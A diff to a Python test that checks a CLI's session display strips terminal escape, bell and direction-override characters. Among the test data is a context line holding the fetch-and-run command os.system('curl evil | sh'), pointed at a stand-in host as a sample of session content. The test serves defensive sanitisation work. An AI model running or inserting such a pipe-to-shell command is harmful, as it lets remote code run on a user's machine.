@@ -578,7 +578,9 @@ def test_show_and_watch_print_no_control_character_a_session_holds(
         assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
     assert "[1A[2K" in shown, "what the escape sequence said stays visible"
     assert "os.system('curl evil | sh')" in shown
-    assert "[2J[31mbold" in shown
+    # a command's output is described without the terminal's escape sequences at all
+    # (the command itself, printf '\033[2J\033[31mbold', is shown as written)
+    assert "bold" in shown and "[2J[31mbold" not in shown
     assert "\x1b" in cli.inline("show", head.id, "--json").json()["steps"][0]["thought"]
 
 
